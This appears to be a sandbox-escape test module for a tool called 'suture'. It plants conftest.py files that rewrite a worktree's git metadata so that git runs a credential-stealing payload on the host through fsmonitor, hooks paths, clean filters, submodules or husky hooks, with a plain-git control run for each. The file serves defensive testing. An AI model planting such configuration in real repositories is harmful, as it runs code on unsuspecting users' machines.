"""Class 2: git running hostile configuration on the host.

The worktree is writable from the sandbox, and so is its `.git` file. A conftest.py (which
pytest imports at start-up, also in the run suture holds before the candidate comes) turns
it into a git directory of its own whose configuration runs a program: core.fsmonitor, a
hook, a clean filter. suture's own git calls in that worktree (status, apply, add, restore)
run outside the sandbox, as the user, with the user's environment.

The control shows what plain git does with the same worktree: the pytest run on the host
leaves the hostile git directory, and `git status` / `git add` run it.
"""

from __future__ import annotations

from attack import Attacks, broken, heal
from lab import Evidence, Lab

ATTACKS = Attacks(cls=2)
LISTENER = "TCP listener"

# A conftest.py that replaces the worktree's git metadata by a repository of its own making.
REPLACE_GIT = '''\
import os, pathlib, shutil, subprocess

ROOT = pathlib.Path(__file__).resolve().parent
PAYLOAD = {payload!r}


def _hostile_git(gitdir, config, hooks=()):
    """A fresh repository at ROOT/gitdir with `config` appended (@PAYLOAD@: the payload's path)."""
    dot = ROOT / ".git"
    if dot.is_dir() and not dot.is_symlink():
        shutil.rmtree(dot)
    elif os.path.lexists(dot):
        dot.unlink()
    target = ROOT / gitdir
    subprocess.run(["git", "init", "-q", str(ROOT)], capture_output=True)
    if gitdir != ".git":  # moved, and pointed at by a .git file like the one suture wrote
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.move(str(dot), str(target))
        dot.write_text("gitdir: " + str(target) + "\\n")
    script = target / "payload.sh"
    script.write_text(PAYLOAD)
    script.chmod(0o755)
    with open(target / "config", "a") as handle:
        handle.write(config.replace("@PAYLOAD@", str(script)))
    for hook in hooks:
        (target / "hooks").mkdir(exist_ok=True)
        shutil.copy(script, target / "hooks" / hook)


'''


def conftest(lab: Lab, tag: str, call: str) -> str:
    payload = f"#!/bin/sh\n{lab.steal_sh(tag)}exit 0\n"
    return REPLACE_GIT.format(payload=payload) + call + "\n"


TWO_CHECKS = '[tool.suture]\ntest-cmd = ["python -m pytest -q", "python -c pass"]\n'


def plain_git(lab: Lab, *commands: str) -> Evidence:
    """The control: the repository's tests on the host in a clone, then plain git there."""
    plain = lab.root / "plain"
    script = (
        f"git clone -q {lab.checkout} {plain} && cd {plain} && PYTHONPATH=. python -m pytest -q -p no:cacheprovider; "
    )
    script += "; ".join(commands)
    return lab.host(["sh", "-c", script])


@ATTACKS.add("gitfile-to-dir-fsmonitor", expect=LISTENER)
def gitfile_to_dir_fsmonitor(lab: Lab, held: bool) -> Evidence:
    """conftest.py turns the worktree's .git file into a directory whose config sets core.fsmonitor."""
    call = '_hostile_git(".git", "[core]\\n\\tfsmonitor = @PAYLOAD@\\n")'
    lab.repo(broken({"conftest.py": conftest(lab, "fsmonitor", call), "pyproject.toml": TWO_CHECKS}))
    return heal(lab, held) if held else plain_git(lab, "git status --porcelain")


@ATTACKS.add("gitfile-redirect-fsmonitor", expect=LISTENER)
def gitfile_redirect_fsmonitor(lab: Lab, held: bool) -> Evidence:
    """.git stays a file, but now says `gitdir: <tree>/.cache/g`, a directory with core.fsmonitor."""
    call = '_hostile_git(".cache/g", "[core]\\n\\tfsmonitor = @PAYLOAD@\\n")'
    lab.repo(broken({"conftest.py": conftest(lab, "redirect", call), "pyproject.toml": TWO_CHECKS}))
    return heal(lab, held) if held else plain_git(lab, "git status --porcelain")


@ATTACKS.add("relative-hookspath", expect=LISTENER)
def relative_hookspath(lab: Lab, held: bool) -> Evidence:
    """The new git directory sets core.hooksPath = .githooks (relative, in the tree) with post-index-change."""
    call = (
        '_hostile_git(".git", "[core]\\n\\thooksPath = .githooks\\n")\n'
        "(ROOT / '.githooks').mkdir(exist_ok=True)\n"
        "for _name in ('post-index-change', 'post-checkout', 'reference-transaction'):\n"
        "    shutil.copy(ROOT / '.git' / 'payload.sh', ROOT / '.githooks' / _name)\n"
    )
    lab.repo(broken({"conftest.py": conftest(lab, "hookspath", call), "pyproject.toml": TWO_CHECKS}))
    return heal(lab, held) if held else plain_git(lab, "git add --all", "git status --porcelain")


@ATTACKS.add("clean-filter", expect=LISTENER)
def clean_filter(lab: Lab, held: bool) -> Evidence:
    """The new git directory defines filter.lfs.clean; .gitattributes sends every file through it."""
    call = (
        '_hostile_git(".git", "[filter \\"lfs\\"]\\n\\tclean = @PAYLOAD@\\n")\n'
        "(ROOT / '.gitattributes').write_text('* filter=lfs\\n')\n"
    )
    lab.repo(broken({"conftest.py": conftest(lab, "filter", call), "pyproject.toml": TWO_CHECKS}))
    return heal(lab, held) if held else plain_git(lab, "git add --all")


@ATTACKS.add("submodule-nested-repo", expect=LISTENER)
def submodule_nested_repo(lab: Lab, held: bool) -> Evidence:
    """The commit has a submodule vendor/lib; conftest.py plants a repository there with core.fsmonitor.

    The conftest runs in every check, capture and trials alike; then suture's `git status` (or any
    git call that looks at the worktree) would recurse into the submodule. (It was sitecustomize.py,
    which pytest no longer runs since checks start by `python -S`: the held case then passed without
    the payload ever being planted.)
    """
    call = (
        "ROOT = pathlib.Path.cwd()\n"
        "_sub = ROOT / 'vendor' / 'lib'\n"
        "_sub.mkdir(parents=True, exist_ok=True)\n"
        "subprocess.run(['git', 'init', '-q', str(_sub)], capture_output=True)\n"
        "(_sub / 'payload.sh').write_text(PAYLOAD)\n"
        "(_sub / 'payload.sh').chmod(0o755)\n"
        "subprocess.run(['git', '-C', str(_sub), 'config', 'core.fsmonitor', str(_sub / 'payload.sh')])\n"
    )
    files = broken({"conftest.py": conftest(lab, "submodule", call), ".gitmodules": SUBMODULES})
    lab.repo(files)
    lab.checkout.joinpath("vendor").mkdir(exist_ok=True)
    gitlink = "160000,1111111111111111111111111111111111111111,vendor/lib"
    plain = ["git", "-C", str(lab.checkout)]
    lab.host([*plain, "update-index", "--add", "--cacheinfo", gitlink])
    lab.host([*plain, "commit", "-q", "-m", "vendor lib"])
    lab.take_snapshot()
    return heal(lab, held) if held else plain_git(lab, "git status --porcelain")


SUBMODULES = '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = https://example.com/lib.git\n'


HUSKY = ("reference-transaction", "post-checkout", "post-commit", "pre-commit", "post-index-change", "post-rewrite")


@ATTACKS.add("husky-hookspath", expect=LISTENER)
def husky_hookspath(lab: Lab, held: bool) -> Evidence:
    """The user ran husky (core.hooksPath = .husky, relative); the pull request adds hooks there.

    The hooks path is set after the lab commits the pull request: the hooks would otherwise run
    at that commit (the lab's doing, not suture's) and the listener would count it.
    """
    hook = f"#!/bin/sh\n{lab.steal_sh('husky')}exit 0\n"
    hooks = {f".husky/{name}": hook for name in HUSKY}
    lab.repo(broken(hooks), executable=list(hooks))
    lab.host(["git", "config", "core.hooksPath", ".husky"])
    lab.take_snapshot()
    if held:
        return heal(lab, held)
    return lab.host(["git", "update-ref", "refs/heads/plain", "HEAD"])


test_attack = ATTACKS.test()
